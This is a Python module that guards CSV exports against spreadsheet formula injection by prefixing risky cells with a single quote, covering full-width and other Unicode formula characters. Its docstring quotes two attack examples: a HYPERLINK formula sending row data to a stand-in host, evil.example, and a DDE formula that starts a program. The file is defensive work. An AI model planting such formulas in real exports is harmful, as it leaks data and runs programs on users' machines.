"""CSV for spreadsheets: the one rule for cells a spreadsheet program would run as a formula, and the one writer.

Excel, LibreOffice Calc and Google Sheets read a CSV cell that starts with `=`, `+`, `-` or `@` (Excel also after a
tab or a carriage return) as a formula: `=HYPERLINK("https://evil.example/?"&A2, "…")` sends the row away, and
`=cmd|' /C calc'!A0` (DDE) starts a program. Claim text, claimants, tags, units and article titles come from
imported files and reviewers' typing, so any of them may start that way. OWASP's advice, followed here, is to
prefix such a cell with a single quote, which spreadsheets read as "this cell is text".

Every CSV we write goes through `SpreadsheetWriter` (tests/hardening/test_csv_writers.py holds that no code
calls csv.writer itself). The rule is for CSV only: JSON, NDJSON and the API return text exactly as stored.
"""

from __future__ import annotations

import csv

# The characters that start a formula, and every character whose compatibility form (NFKC) starts with one of them:
# the full-width ＝ ＋ － ＠ that Chinese input methods type, and their small, superscript and subscript forms
# (tests/test_spreadsheet.py derives this set from Unicode and holds the two equal). Tab, carriage return and NUL
# are the other leading characters OWASP and the ASVS name.
FORMULA_STARTS = frozenset(
    "=+-@"
    "\uff1d\uff0b\uff0d\uff20"  # ＝ ＋ － ＠ full-width
    "\ufe66\ufe62\ufe63\ufe6b"  # ﹦ ﹢ ﹣ ﹫ small
    "\u207c\u207a\u208c\u208a"  # ⁼ ⁺ ₌ ₊ superscript and subscript
    "\u2a75\u2a76\ufb29"  # ⩵ ⩶ (== and ===), Hebrew alternative plus
)
_LEADING_CONTROLS = frozenset("\t\r\x00")


def spreadsheet_safe(text: str) -> str:
    """`text` with a `'` in front if a spreadsheet would read it as a formula, else `text` unchanged.

    A formula character after leading whitespace counts too (" =1+1", "\u3000＝1"): LibreOffice can trim
    spaces on import, and a cell prefixed needlessly costs one visible quote, where one missed runs a formula.
    """
    if not text:
        return text
    first = text[0]
    if first in FORMULA_STARTS or first in _LEADING_CONTROLS:
        return "'" + text
    if first.isspace() and text.lstrip()[:1] in FORMULA_STARTS:
        return "'" + text
    return text


def spreadsheet_cell(value):
    """A CSV cell: text made spreadsheet-safe; numbers, None and the rest as the csv module writes them.

    Numbers we write from typed columns (ids, a claim's figure) are left alone, so "-3" stays a number a
    spreadsheet can add up: they come from integer and decimal columns, never from text anyone typed.
    """
    return spreadsheet_safe(value) if isinstance(value, str) else value


class SpreadsheetWriter:
    """`csv.writer(file)` whose rows go through spreadsheet_cell."""

    def __init__(self, file, **fmtparams):
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row):
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
